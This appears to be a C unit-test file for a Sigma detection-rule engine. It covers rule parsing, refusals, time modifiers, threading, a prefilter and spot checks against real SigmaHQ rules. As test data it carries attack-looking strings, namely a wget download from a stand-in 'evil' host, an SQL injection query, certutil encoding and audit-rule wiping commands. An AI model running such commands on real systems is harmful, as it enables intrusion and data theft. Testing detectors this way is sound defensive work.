    assert_true(r1(cs_ruleset_rule(rs, 0), ev_str("a", "admin42", NULL)));
    assert_false(r1(cs_ruleset_rule(rs, 0), ev_str("a", "%Admins%", NULL)));
    assert_false(r1(cs_ruleset_rule(rs, 0), ev_str("a", "bob", NULL)));
    assert_true(r1(cs_ruleset_rule(rs, 1), ev_str("a", "ssh root@web now", NULL)));
    assert_true(r1(cs_ruleset_rule(rs, 1), ev_str("a", "adminX@db", NULL)));
    assert_false(r1(cs_ruleset_rule(rs, 1), ev_str("a", "root@mail", NULL)));
    cs_ruleset_free(rs);
    /* without |expand a %x% is literal text */
    rs = one_item("", "'%Admins%'");
    assert_true(m1(rs, "a", "%admins%"));
    cs_ruleset_free(rs);
    /* unknown placeholder: refused with its name */
    load_refused(RULE("  s:\n    a|expand: '%Nope%'\n  condition: s\n"), 7, "unknown placeholder '%Nope%'");
}

static void test_time_parts(void **state)
{
    cs_ruleset *rs;
    cs_event *ev;
    (void)state;
    /* 2021-01-03T23:59:30Z is a Sunday of ISO week 53 of 2020 */
    rs = one_item("|week", "53");
    assert_true(m1(rs, "a", "2021-01-03T23:59:30Z"));
    assert_false(m1(rs, "a", "2021-01-04T00:00:00Z"));   /* week 1 */
    assert_true(m1(rs, "a", "2021-01-04T01:00:00+02:00"));   /* 2021-01-03 23:00 UTC */
    cs_ruleset_free(rs);
    rs = one_item("|week", "1");
    assert_true(m1(rs, "a", "2024-12-30"));   /* Monday of ISO week 1 of 2025 */
    assert_true(m1(rs, "a", "2021-01-04"));
    assert_false(m1(rs, "a", "2024-12-29"));  /* week 52 */
    cs_ruleset_free(rs);
    rs = one_item("|hour", "23");
    assert_true(m1(rs, "a", "2021-01-04T01:15:00+02:00"));
    assert_true(m1(rs, "a", "2021-01-03 23:05:00.123Z"));
    assert_false(m1(rs, "a", "2021-01-03T22:59:59Z"));
    assert_false(m1(rs, "a", "not a date"));
    assert_false(m_ev(rs, ev_int("a", 23)));
    ev = cs_event_new(CS_KIND_LOG, 0);
    /* 2021-01-03T23:59:30Z = 1609718370 s */
    assert_int_equal(cs_event_add_time(&ev, fid("a"), INT64_C(1609718370) * 1000000), CS_OK);
    assert_true(m_ev(rs, ev));
    cs_ruleset_free(rs);
    rs = one_item("|minute", "59");
    assert_true(m1(rs, "a", "2021-01-03T23:59:30Z"));
    assert_false(m1(rs, "a", "2021-01-03T23:58:30Z"));
    cs_ruleset_free(rs);
    rs = one_item("|day", "3");
    assert_true(m1(rs, "a", "2021-01-03T23:59:30Z"));
    assert_false(m1(rs, "a", "2021-01-03T23:59:30-01:00"));   /* the 4th in UTC */
    cs_ruleset_free(rs);
    rs = one_item("|month", "[1, 12]");
    assert_true(m1(rs, "a", "2020-12-31T10:00:00Z"));
    assert_true(m1(rs, "a", "2021-01-01"));
    assert_false(m1(rs, "a", "2021-02-01"));
    cs_ruleset_free(rs);
    rs = one_item("|year", "1969");
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_time(&ev, fid("a"), -1), CS_OK);
    assert_true(m_ev(rs, ev));
    assert_true(m1(rs, "a", "1969-12-31T23:59:59Z"));
    cs_ruleset_free(rs);
    /* with a comparison: working hours */
    rs = load_ok(RULE("  s:\n    a|hour|gte: 8\n  t:\n    a|hour|lt: 18\n  condition: not (s and t)\n"));
    assert_true(m1(rs, "a", "2021-01-03T07:59:00Z"));
    assert_false(m1(rs, "a", "2021-01-03T08:00:00Z"));
    assert_true(m1(rs, "a", "2021-01-03T18:00:00Z"));
    cs_ruleset_free(rs);
}

static void test_new_modifier_refusals(void **state)
{
    (void)state;
    load_refused(RULE("  s:\n    a|base64|base64offset: x\n  condition: s\n"), 7, "only one of base64");
    load_refused(RULE("  s:\n    a|base64|wide: x\n  condition: s\n"), 7, "must come before base64");
    load_refused(RULE("  s:\n    a|wide|utf16be: x\n  condition: s\n"), 7, "only one of utf16le");
    load_refused(RULE("  s:\n    a|base64: 'x*y'\n  condition: s\n"), 7, "wildcard");
    load_refused(RULE("  s:\n    a|re|base64: x\n  condition: s\n"), 7, "'re' cannot be combined");
    load_refused(RULE("  s:\n    a|cidr|windash: 10.0.0.0/8\n  condition: s\n"), 7, "'cidr' cannot be combined");
    load_refused(RULE("  s:\n    a|gt: ten\n  condition: s\n"), 7, "needs a number");
    load_refused(RULE("  s:\n    a|gt|lt: 1\n  condition: s\n"), 7, "only one of lt");
    load_refused(RULE("  s:\n    a|gt|contains: 1\n  condition: s\n"), 7, "compares numbers");
    load_refused(RULE("  s:\n    a|hour: 1.5\n  condition: s\n"), 7, "whole number");
    load_refused(RULE("  s:\n    a|hour|day: 1\n  condition: s\n"), 7, "only one of minute");
    load_refused(RULE("  s:\n    a|week|startswith: 1\n  condition: s\n"), 7, "compares numbers");
    load_refused(RULE("  s:\n    a|fieldref|base64: b\n  condition: s\n"), 7, "'fieldref' takes only");
    load_refused(RULE("  s:\n    a|fieldref|re: b\n  condition: s\n"), 7, "'fieldref' takes only");
    load_refused(RULE("  s:\n    '|neq': x\n  condition: s\n"), 7, "need a field name");
    load_refused(RULE("  s:\n    a|neq|all: [x, y]\n  condition: s\n"), 7, "'neq' cannot be combined");
    load_refused(RULE("  s:\n    a|gt: null\n  condition: s\n"), 7, "null in field");
    load_refused(RULE("  s:\n    a|windash: '-a -b -c -d -e -f'\n  condition: s\n"), 7, "more than 5 options");
    load_refused(RULE("  s:\n    a|expand: '%x%'\n  condition: s\n"), 7, "unknown placeholder '%x%'");
}

static void test_refusals(void **state)
{
    char big[80000];
    size_t n;
    (void)state;
    /* line 7 is the first line after "detection:" (HEAD is 4 lines, detection: is line 5) */
    load_refused(RULE("  s:\n    a|foo: x\n  condition: s\n"), 7, "unknown modifier 'foo' in field 'a|foo'");
    /* base64offset and windash are supported now: their refusals are in test_new_modifier_refusals */
    load_refused(RULE("  s:\n    a|base64offset|base64: x\n  condition: s\n"), 7, "only one of base64");
    load_refused(RULE("  s:\n    a|windash|re: x\n  condition: s\n"), 7, "'re' cannot be combined");
    load_refused(RULE("  s:\n    a||contains: x\n  condition: s\n"), 7, "empty modifier");
    load_refused(RULE("  s:\n    a|i: x\n  condition: s\n"), 7, "must follow 're'");
    load_refused(RULE("  s:\n    a|re|contains: x\n  condition: s\n"), 7, "'re' cannot be combined");
    load_refused(RULE("  s:\n    a|exists: maybe\n  condition: s\n"), 7, "true or false");
    load_refused(RULE("  s:\n    a: 1\n  condition: s and nosuch\n"), 8, "unknown identifier 'nosuch'");
    load_refused(RULE("  s:\n    a: 1\n  condition: s s\n"), 8, "unexpected 's'");
    load_refused(RULE("  s:\n    a: 1\n  condition: (s\n"), 8, "')'");
    load_refused(RULE("  s:\n    a: 1\n  condition: s and\n"), 8, "condition ends");
    load_refused(RULE("  s:\n    a: 1\n  condition: selection | count() > 5\n"), 8, "aggregations");
    load_refused(RULE("  s:\n    a: 1\n  condition: s | count() by b > 5\n"), 8, "aggregations");
    load_refused(RULE("  s:\n    a: 1\n  condition: 1 of filter_*\n"), 8, "matches no detection");
    load_refused(RULE("  _s:\n    a: 1\n  condition: all of them\n"), 8, "matches no detection");
    load_refused(RULE("  s_1:\n    a: 1\n  condition: s_*\n"), 8, "needs '1 of'");
    load_refused(RULE("  s:\n    a: 1\n  condition: ''\n"), 8, "condition");
    load_refused(RULE("  s:\n    a: 1\n"), 5, "no 'condition'");
    load_refused(HEAD "description: no detection\n", 1, "no 'detection'");
    load_refused("logsource:\n  product: x\ndetection:\n  s:\n    a: 1\n  condition: s\n", 1, "no 'title'");
    load_refused(RULE("  s:\n    a|re: '(unclosed'\n  condition: s\n"), 7, "bad regular expression");
    load_refused(RULE("  s:\n    a|cidr: '10.0.0.0/33'\n  condition: s\n"), 7, "prefix length 33");
    load_refused(RULE("  s:\n    a|cidr: 'ten/8'\n  condition: s\n"), 7, "bad address in CIDR");
    load_refused(RULE("  s:\n    a: []\n  condition: s\n"), 7, "empty list");
    load_refused(RULE("  s:\n    a:\n      b: c\n  condition: s\n"), 7, "mapping");
    load_refused(RULE("  s:\n  condition: s\n"), 6, "is empty");
    load_refused(HEAD "level: severe\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5, "'level'");
    load_refused(HEAD "tags: {a: b}\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5, "'tags'");
    load_refused("---\n- just\n- a list\n", 2, "must be a mapping");
    /* YAML problems are refusals too, with their line */
    load_refused(HEAD "x: &anchor foo\ny: *anchor\ndetection:\n  s:\n    a: 1\n  condition: s\n", 5,
                 "anchors are not accepted");
    load_refused(HEAD "detection:\n  s:\n    a: 1\n  s:\n    b: 2\n  condition: s\n", 8, "duplicate key");
    load_refused(HEAD "detection:\n  s: [a, b\n", 7, "test.yml");

    /* too deep a condition */
    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a: 1\n  condition: "));
    for (int i = 0; i < CS_SIGMA_MAX_COND_DEPTH + 1; i++) {
        n += (size_t)snprintf(big + n, sizeof big - n, "not ");
    }
    snprintf(big + n, sizeof big - n, "s\n");
    load_refused(big, 8, "deeper than");
    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a: 1\n  condition: "));
    for (int i = 0; i < CS_SIGMA_MAX_COND_DEPTH + 1; i++) {
        big[n++] = '(';
    }
    snprintf(big + n, sizeof big - n, "s\n");
    load_refused(big, 8, "deeper than");

    /* too many values in one item */
    n = (size_t)snprintf(big, sizeof big, RULE("  s:\n    a:\n"));
    for (int i = 0; i < CS_SIGMA_MAX_VALUES + 1; i++) {
        n += (size_t)snprintf(big + n, sizeof big - n, "      - %d\n", i);
    }
    snprintf(big + n, sizeof big - n, "  condition: s\n");
    load_refused(big, 7, "at most 4096");
}

static void test_refusal_keeps_good_rules(void **state)
{
    const char *y = RULE("  s:\n    a: 1\n  condition: s\n") "---\n" RULE("  s:\n    a|nope: 1\n  condition: s\n")
        "---\n" RULE("  s:\n    b: 1\n  condition: nosuch\n") "---\n" RULE("  s:\n    b: 1\n  condition: s\n");
    cs_ruleset *rs = NULL;
    errs e = {0};
    cs_rc rc;
    (void)state;
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    rc = cs_ruleset_load_string(rs, "test.yml", y, strlen(y), on_err, &e);
    assert_int_equal(rc, CS_ERR_RULE);
    assert_int_equal(e.n, 2);
    assert_int_equal(cs_ruleset_count(rs), 2);
    /* cs_err_msg() holds the first problem, the callback saw the last */
    assert_non_null(strstr(cs_err_msg(), "test.yml:16: unknown modifier 'nope'"));
    assert_non_null(strstr(e.last, "test.yml:26: unknown identifier 'nosuch'"));
    /* a NULL callback is fine */
    rc = cs_ruleset_load_string(rs, "again.yml", y, strlen(y), NULL, NULL);
    assert_int_equal(rc, CS_ERR_RULE);
    assert_int_equal(cs_ruleset_count(rs), 4);
    cs_ruleset_free(rs);
}

/* A long flat or-chain must neither recurse deeply nor be refused. */
static void test_long_chain(void **state)
{
    size_t cap = 200000;
    char *y = malloc(cap);
    size_t n;
    cs_ruleset *rs;
    (void)state;
    assert_non_null(y);
    n = (size_t)snprintf(y, cap, RULE("  s:\n    a: 1\n  t:\n    b: 1\n  condition: t"));
    for (int i = 0; i < 20000; i++) {
        n += (size_t)snprintf(y + n, cap - n, " or t");
    }
    snprintf(y + n, cap - n, " or s\n");
    rs = load_ok(y);
    assert_true(mabc(rs, "a"));
    assert_false(mabc(rs, "c"));
    cs_ruleset_free(rs);
    free(y);
}

/* ----------------------------------------------------------------- files -- */

static void write_file(const char *path, const char *text)
{
    FILE *fp = fopen(path, "w");
    assert_non_null(fp);
    fputs(text, fp);
    fclose(fp);
}

static void test_load_path(void **state)
{
    char dir[] = "/tmp/test_sigma_XXXXXX";
    char p[256];
    cs_ruleset *rs = NULL;
    errs e = {0};
    cs_rc rc;
    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(p, sizeof p, "%s/sub", dir);
    assert_int_equal(mkdir(p, 0700), 0);
    snprintf(p, sizeof p, "%s/.hidden", dir);
    assert_int_equal(mkdir(p, 0700), 0);
    snprintf(p, sizeof p, "%s/b.yml", dir);
    write_file(p, "title: B\ndetection:\n  s:\n    a: 1\n  condition: s\n");
    snprintf(p, sizeof p, "%s/a.yaml", dir);
    write_file(p, "title: A\ndetection:\n  s:\n    a: 1\n  condition: s\n");
    snprintf(p, sizeof p, "%s/sub/c.yml", dir);
    write_file(p, "title: C\ndetection:\n  s:\n    a: 1\n  condition: s\n");
    snprintf(p, sizeof p, "%s/sub/bad.yml", dir);
    write_file(p, "title: Bad\ndetection:\n  s:\n    a|nope: 1\n  condition: s\n");
    snprintf(p, sizeof p, "%s/notes.txt", dir);
    write_file(p, "not a rule\n");
    snprintf(p, sizeof p, "%s/.hidden/h.yml", dir);
    write_file(p, "title: H\ndetection:\n  s:\n    a: 1\n  condition: s\n");

    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    rc = cs_ruleset_load_path(rs, dir, on_err, &e);
    assert_int_equal(rc, CS_ERR_RULE);
    assert_int_equal(e.n, 1);
    assert_non_null(strstr(e.last, "/sub/bad.yml:4: unknown modifier 'nope'"));
    assert_int_equal(cs_ruleset_count(rs), 3);
    /* bytewise order per directory: a.yaml, b.yml, sub/c.yml */
    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 0))->title, "A");
    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 1))->title, "B");
    assert_string_equal(cs_rule_get_info(cs_ruleset_rule(rs, 2))->title, "C");
    assert_non_null(strstr(cs_rule_get_info(cs_ruleset_rule(rs, 2))->path, "/sub/c.yml"));

    /* one file; a missing path */
    snprintf(p, sizeof p, "%s/b.yml", dir);
    assert_int_equal(cs_ruleset_load_path(rs, p, on_err, &e), CS_OK);
    assert_int_equal(cs_ruleset_count(rs), 4);
    snprintf(p, sizeof p, "%s/missing.yml", dir);
    assert_int_equal(cs_ruleset_load_path(rs, p, on_err, &e), CS_ERR_IO);
    assert_non_null(strstr(cs_err_msg(), "missing.yml"));
    assert_int_equal(e.n, 1);
    cs_ruleset_free(rs);

    /* clean up */
    snprintf(p, sizeof p, "rm -rf '%s'", dir);
    assert_int_equal(system(p), 0);
}

/* ---------------------------------------------------------------- threads -- */

typedef struct thr {
    const cs_ruleset *rs;
    size_t hits;
} thr;

static void *match_thread(void *arg)
{
    thr *t = arg;
    cs_event *yes = ev_str("CommandLine", "wget -O /tmp/x http://evil", "message", "Failed password", NULL);
    cs_event *no = ev_str("CommandLine", "wget -o /tmp/x", NULL);
    for (int i = 0; i < 2000; i++) {
        t->hits += cs_ruleset_match(t->rs, yes, NULL, NULL);
        t->hits += cs_ruleset_match(t->rs, no, NULL, NULL);
    }
    cs_event_free(yes);
    cs_event_free(no);
    return NULL;
}

static void test_concurrent_match(void **state)
{
    const char *y = RULE("  s:\n    CommandLine|re: '\\s-O\\s'\n  condition: s\n") "---\n"
        RULE("  k:\n    - 'failed password'\n  condition: k\n");
    cs_ruleset *rs = load_ok(y);
    pthread_t th[4];
    thr t[4];
    (void)state;
    for (int i = 0; i < 4; i++) {
        t[i].rs = rs;
        t[i].hits = 0;
        assert_int_equal(pthread_create(&th[i], NULL, match_thread, &t[i]), 0);
    }
    for (int i = 0; i < 4; i++) {
        assert_int_equal(pthread_join(th[i], NULL), 0);
        assert_int_equal(t[i].hits, 2000 * 2);
    }
    cs_ruleset_free(rs);
}

/* --------------------------------------------------------------- SigmaHQ -- */

typedef struct hq {
    int refused;
    char *log;
    size_t len;
    size_t cap;
} hq;

static void hq_err(const char *msg, void *ud)
{
    hq *h = ud;
    size_t ml = strlen(msg);
    h->refused++;
    if (h->len + ml + 2 > h->cap) {
        size_t cap = (h->cap + ml + 2) * 2;
        char *p = realloc(h->log, cap);
        if (p == NULL) {
            return;
        }
        h->log = p;
        h->cap = cap;
    }
    memcpy(h->log + h->len, msg, ml);
    h->log[h->len + ml] = '\n';
    h->len += ml + 1;
    h->log[h->len] = '\0';
}

static const cs_rule *find_rule(const cs_ruleset *rs, const char *id)
{
    for (size_t i = 0; i < cs_ruleset_count(rs); i++) {
        if (strcmp(cs_rule_get_info(cs_ruleset_rule(rs, i))->id, id) == 0) {
            return cs_ruleset_rule(rs, i);
        }
    }
    printf("rule %s not found: its spot check is skipped\n", id);
    return NULL;
}

/* Match one rule and free the event. */
static bool rule_on(const cs_rule *r, cs_event *ev)
{
    bool hit = cs_rule_match(r, ev);
    cs_event_free(ev);
    return hit;
}

static void test_sigmahq_subset(void **state)
{
    static const char *const dirs[] = {"rules/linux", "rules/web", "rules/network"};
    const char *base = getenv("CS_SHARED_DATA");
    char path[1024];
    struct stat sb;
    cs_ruleset *rs = NULL;
    hq h = {0};
    size_t loaded;
    (void)state;
    if (base == NULL || base[0] == '\0') {
        base = "/work/shared/data";
    }
    snprintf(path, sizeof path, "%s/sigma/rules", base);
    if (stat(path, &sb) != 0) {
        printf("SigmaHQ rules not found under %s (set CS_SHARED_DATA): skipped\n", path);
        skip();
    }
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        cs_rc rc;
        snprintf(path, sizeof path, "%s/sigma/%s", base, dirs[i]);
        rc = cs_ruleset_load_path(rs, path, hq_err, &h);
        assert_true(rc == CS_OK || rc == CS_ERR_RULE);
    }
    loaded = cs_ruleset_count(rs);
    printf("SigmaHQ linux+web+network: %zu loaded, %d refused\n", loaded, h.refused);
    if (h.refused > 0) {
        printf("%s", h.log);
    }
    assert_true(loaded > 0);
    assert_true(loaded * 10 >= (loaded + (size_t)h.refused) * 9);

    /* spot checks on real rules (skipped if a rule is not in this copy of SigmaHQ) */
    {
        const cs_rule *r = find_rule(rs, "bed26dea-4525-47f4-b24a-76e30e44ffb0");   /* auditctl -D, re */
        if (r != NULL) {
            assert_true(rule_on(r, ev_str("Image", "/usr/sbin/auditctl", "CommandLine", "auditctl -D", NULL)));
            assert_false(rule_on(r, ev_str("Image", "/usr/sbin/auditctl", "CommandLine", "auditctl -d", NULL)));
        }
        r = find_rule(rs, "5513deaf-f49a-46c2-a6c8-3f111b5cb453");   /* SQLi: keywords, not status 404 */
        if (r != NULL) {
            cs_event *ev = ev_str("cs-method", "GET", "message", "GET /p.php?id=1 union select 1,2 HTTP/1.1", NULL);
            cs_event *ev2 = cs_event_clone(ev);
            assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 200), CS_OK);
            assert_int_equal(cs_event_add_int(&ev2, fid("sc-status"), 404), CS_OK);
            assert_true(rule_on(r, ev));
            assert_false(rule_on(r, ev2));
            assert_false(rule_on(r, ev_str("cs-method", "POST", "message", "id=1 UNION SELECT 1", NULL)));
        }
        r = find_rule(rs, "1fc0809e-06bf-4de3-ad52-25e5263b7623");   /* zeek RDP: not + v4/v6 cidr */
        if (r != NULL) {
            assert_true(rule_on(r, ev_ip(fid("id.orig_h"), "8.8.8.8")));
            assert_true(rule_on(r, ev_ip(fid("id.orig_h"), "2001:4860::1")));
            assert_false(rule_on(r, ev_ip(fid("id.orig_h"), "172.31.0.1")));
            assert_false(rule_on(r, ev_ip(fid("id.orig_h"), "fd00::1")));
        }
        r = find_rule(rs, "dbfc7c98-04ab-4ab7-aa94-c74d22aa7376");   /* callback ports: numbers + cidr */
        if (r != NULL) {
            cs_event *ev = ev_ip(fid("DestinationIp"), "203.0.113.5");
            cs_event *ev2 = ev_ip(fid("DestinationIp"), "192.168.1.1");
            assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
            assert_int_equal(cs_event_add_int(&ev, fid("DestinationPort"), 4444), CS_OK);
            assert_int_equal(cs_event_add_cstr(&ev2, fid("Initiated"), "true"), CS_OK);
            assert_int_equal(cs_event_add_int(&ev2, fid("DestinationPort"), 4444), CS_OK);
            assert_true(rule_on(r, ev));
            assert_false(rule_on(r, ev2));
        }
        r = find_rule(rs, "c52a914f-3d8b-4b2a-bb75-b3991e75f8ba");   /* binary padding: |all keywords, nesting */
        if (r != NULL) {
            assert_true(rule_on(r, ev_str("type", "EXECVE", "message", "a0=truncate a1=-s a2=+5M", NULL)));
            assert_true(rule_on(r, ev_str("type", "EXECVE", "message", "a0=dd a1=if=/dev/zero", NULL)));
            assert_false(rule_on(r, ev_str("type", "EXECVE", "message", "a0=dd a1=if=/dev/zero a2=of=/x", NULL)));
            assert_false(rule_on(r, ev_str("type", "SYSCALL", "message", "a0=truncate a1=-s", NULL)));
        }
    }
    free(h.log);
    cs_ruleset_free(rs);
}

/* rules/windows: every rule loads now that windash is supported; a spot check
 * of a windash rule on its SigmaHQ regression event, and on a '/' variant. */
static void test_sigmahq_windows(void **state)
{
    const char *base = getenv("CS_SHARED_DATA");
    char path[1024];
    struct stat sb;
    cs_ruleset *rs = NULL;
    hq h = {0};
    const cs_rule *r;
    (void)state;
    if (base == NULL || base[0] == '\0') {
        base = "/work/shared/data";
    }
    snprintf(path, sizeof path, "%s/sigma/rules/windows", base);
    if (stat(path, &sb) != 0) {
        printf("SigmaHQ windows rules not found under %s (set CS_SHARED_DATA): skipped\n", path);
        skip();
    }
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    assert_true(cs_ruleset_load_path(rs, path, hq_err, &h) == CS_OK || h.refused > 0);
    printf("SigmaHQ windows: %zu loaded, %d refused\n", cs_ruleset_count(rs), h.refused);
    if (h.refused > 0) {
        printf("%s", h.log);
    }
    assert_true(cs_ruleset_count(rs) > 0);
    assert_true(cs_ruleset_count(rs) * 10 >= (cs_ruleset_count(rs) + (size_t)h.refused) * 9);
    r = find_rule(rs, "82a6714f-4899-4f16-9c1e-9a333544d4c3");   /* certutil -encode: |contains|windash */
    if (r != NULL) {
        static const char *const cl[] = {
            "certutil  -encode C:\\Users\\Administrator\\AppData\\Roaming\\Microsoft\\Network\\sr011.xml x",
            "certutil /encode C:\\Users\\Public\\a.txt b",
            "certutil \xe2\x80\x93\x65ncode C:\\Users\\Public\\a.txt b",   /* U+2013 then "encode" */
        };
        for (size_t i = 0; i < sizeof cl / sizeof cl[0]; i++) {
            assert_true(rule_on(r, ev_str("Image", "C:\\Windows\\System32\\certutil.exe", "CommandLine", cl[i], NULL)));
        }
        assert_false(rule_on(r, ev_str("Image", "C:\\Windows\\System32\\certutil.exe", "CommandLine",
                                       "certutil +encode C:\\Users\\Public\\a.txt b", NULL)));
        assert_false(rule_on(r, ev_str("Image", "C:\\Windows\\System32\\certutil.exe", "CommandLine",
                                       "certutil /decode C:\\Users\\Public\\a.txt b", NULL)));
    }
    free(h.log);
    cs_ruleset_free(rs);
}

/* ---------------------------------------------------- literal prefilter -- */

typedef struct pfcount {
    size_t n;
    uint32_t h;
} pfcount;

static void pf_cb(const cs_rule *rule, const cs_event *ev, void *ud)
{
    pfcount *c = ud;
    uintptr_t x = (uintptr_t)rule;
    (void)ev;
    c->n++;
    c->h = c->h * 16777619u ^ (uint32_t)(x ^ (x >> 32));
}

/* Same matches, in the same order, with and without the prefilter. */
static size_t pf_same(cs_ruleset *rs, const cs_event *ev)
{
    pfcount on = {0, 2166136261u}, off = {0, 2166136261u};
    size_t a, b;
    cs_ruleset_set_prefilter(rs, true);
    a = cs_ruleset_match(rs, ev, pf_cb, &on);
    cs_ruleset_set_prefilter(rs, false);
    b = cs_ruleset_match(rs, ev, pf_cb, &off);
    assert_int_equal(a, on.n);
    assert_int_equal(b, off.n);
    cs_ruleset_set_prefilter(rs, true);
    if (on.n != off.n || on.h != off.h) {
        const cs_field *fs = cs_event_fields(ev);
        print_error("prefilter changed the result: %zu vs %zu matches on this event:\n", on.n, off.n);
        for (size_t i = 0; i < cs_event_nfields(ev); i++) {
            char buf[64];
            size_t len;
            const char *t = cs_field_text(ev, &fs[i], buf, sizeof buf, &len);
            print_error("  %s = %.*s\n", cs_field_name(fs[i].id), t != NULL ? (int)len : 0, t != NULL ? t : "");
        }
    }
    assert_int_equal(on.n, off.n);
    assert_int_equal(on.h, off.h);
    return on.n;
}

static void test_prefilter_unit(void **state)
{
    const char *y = "title: a\nlogsource: {product: linux}\ndetection:\n  s:\n    f|contains: 'EVIL'\n  condition: s\n"
                    "---\ntitle: b\nlogsource: {product: linux}\n"
                    "detection:\n  s:\n    f: 'x?y*zzz'\n  f:\n    g: ok\n  condition: s and not f\n"
                    "---\ntitle: c\nlogsource: {product: linux}\ndetection:\n  s:\n    f|re: 'ev.l'\n  condition: s\n"
                    "---\ntitle: d\nlogsource: {product: linux}\n"
                    "detection:\n  k:\n    - 'needle'\n    - 'haystack'\n  condition: k\n"
                    "---\ntitle: e\nlogsource: {product: linux}\ndetection:\n  s:\n    n: 445\n  condition: s\n"
                    "---\ntitle: f\nlogsource: {product: linux}\n"
                    "detection:\n  s:\n    f|contains|all: ['one', 'two']\n  condition: not s\n";
    cs_ruleset *rs = load_ok(y);
    cs_event *ev;
    (void)state;
    assert_int_equal(cs_ruleset_count(rs), 6);
    assert_int_equal(cs_ruleset_prefiltered(rs), 5);   /* a, b, c (its regex needs "ev"), d; e needs field n */
    ev = ev_str("f", "an evil thing", NULL);
    assert_int_equal(pf_same(rs, ev), 3);              /* a, c, f */
    cs_event_free(ev);
    ev = ev_str("f", "XaYqqzZz", "message", "a HAYSTACK", NULL);
    assert_int_equal(pf_same(rs, ev), 3);              /* b, d, f */
    cs_event_free(ev);
    /* keywords read message, else event.original */
    ev = ev_str("message", "benign", "event.original", "a needle", NULL);
    assert_int_equal(pf_same(rs, ev), 1);              /* f */
    cs_event_free(ev);
    ev = ev_str("event.original", "a needle", NULL);
    assert_int_equal(pf_same(rs, ev), 2);              /* d, f */
    cs_event_free(ev);
    ev = cs_event_new(CS_KIND_LOG, 0);
    assert_int_equal(cs_event_add_int(&ev, fid("n"), 445), CS_OK);
    assert_int_equal(pf_same(rs, ev), 2);              /* e, f */
    cs_event_free(ev);
    cs_ruleset_free(rs);
}

/* Every SigmaHQ Linux/web/network rule (rules, threat hunting) plus all the
 * emerging-threats rules, on parsed log lines and synthetic events whose
 * fields hold attack-looking strings: the prefilter never changes a result. */
/* Sigma meta filters: `filter.rules` names rules by id or name; those rules
 * then need their detection and NOT the filter's condition. */
static void test_meta_filters(void **state)
{
    static const char rules[] =
        "title: rar\nid: 6f3e2987-db24-4c78-a860-b4f4095a7095\nlogsource: {category: process_creation}\n"
        "detection:\n  sel:\n    Image|endswith: '\\rar.exe'\n  condition: sel\n"
        "---\ntitle: jump\nname: jump_login\nlogsource: {category: process_creation}\n"
        "detection:\n  sel:\n    Image|endswith: '\\mstsc.exe'\n  condition: sel\n"
        "---\ntitle: other\nlogsource: {category: process_creation}\n"
        "detection:\n  sel:\n    Image|endswith: '\\7z.exe'\n  condition: sel\n";
    static const char filter[] =
        "title: Filter Administrator account\nlogsource: {category: process_creation, product: windows}\n"
        "filter:\n  rules:\n    - 6f3e2987-db24-4c78-a860-b4f4095a7095\n    - jump_login\n"
        "  selection:\n    User|startswith: 'adm_'\n  condition: selection\n";
    static const char bad[] = "title: no rules\nlogsource: {product: linux}\nfilter:\n  selection:\n    User: x\n"
                              "  condition: selection\n";
    static const char *const images[] = {"C:\\x\\rar.exe", "C:\\x\\mstsc.exe", "C:\\x\\7z.exe"};
    (void)state;
    for (int order = 0; order < 2; order++) {   /* the filter before the rules, and after */
        cs_ruleset *rs = NULL;
        errs e = {0};
        assert_int_equal(cs_ruleset_new(&rs), CS_OK);
        if (order == 0) {
            assert_int_equal(cs_ruleset_load_string(rs, "mf.yml", filter, strlen(filter), on_err, &e), CS_OK);
        }
        assert_int_equal(cs_ruleset_load_string(rs, "r.yml", rules, strlen(rules), on_err, &e), CS_OK);
        if (order == 1) {
            assert_int_equal(cs_ruleset_load_string(rs, "mf.yml", filter, strlen(filter), on_err, &e), CS_OK);
        }
        assert_int_equal(e.n, 0);
        assert_int_equal(cs_ruleset_count(rs), 3);   /* the filter is not a rule */
        assert_int_equal(cs_ruleset_filter_count(rs), 1);
        for (int i = 0; i < 3; i++) {
            cs_event *admin = ev_str("Image", images[i], "User", "adm_bob", NULL);
            cs_event *user = ev_str("Image", images[i], "User", "bob", NULL);
            assert_true(matches(rs, user));
            assert_int_equal(matches(rs, admin), i == 2);   /* filtered on the two named rules only */
            assert_int_equal(cs_rule_match(cs_ruleset_rule(rs, (size_t)i), admin), i == 2);
            cs_event_free(admin);
            cs_event_free(user);
        }
        {
            cs_event *nothing = ev_str("User", "adm_bob", NULL);
            assert_false(matches(rs, nothing));   /* a filter never matches on its own */
            cs_event_free(nothing);
        }
        cs_ruleset_free(rs);
    }
    {
        cs_ruleset *rs = NULL;
        errs e = {0};
        assert_int_equal(cs_ruleset_new(&rs), CS_OK);
        assert_int_equal(cs_ruleset_load_string(rs, "mf.yml", bad, strlen(bad), on_err, &e), CS_ERR_RULE);
        assert_non_null(strstr(e.last, "mf.yml:3:"));
        assert_non_null(strstr(e.last, "a filter needs 'rules'"));
        assert_int_equal(cs_ruleset_filter_count(rs), 0);
        cs_ruleset_free(rs);
    }
}

/* The specification repository's filter examples load as filters. */
static void test_meta_filter_spec_examples(void **state)
{
    const char *base = getenv("CS_SHARED_DATA");
    char path[1024];
    struct stat sb;
    cs_ruleset *rs = NULL;
    errs e = {0};
    (void)state;
    snprintf(path, sizeof path, "%s/sigma/sigma-specification/tests/schema/filter",
             base != NULL && base[0] != '\0' ? base : "/work/shared/data");
    if (stat(path, &sb) != 0) {
        printf("%s not found (set CS_SHARED_DATA): skipped\n", path);
        skip();
    }
    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
    assert_int_equal(cs_ruleset_load_path(rs, path, on_err, &e), CS_OK);
    assert_int_equal(e.n, 0);
    assert_int_equal(cs_ruleset_filter_count(rs), 2);
    assert_int_equal(cs_ruleset_count(rs), 0);
    cs_ruleset_free(rs);
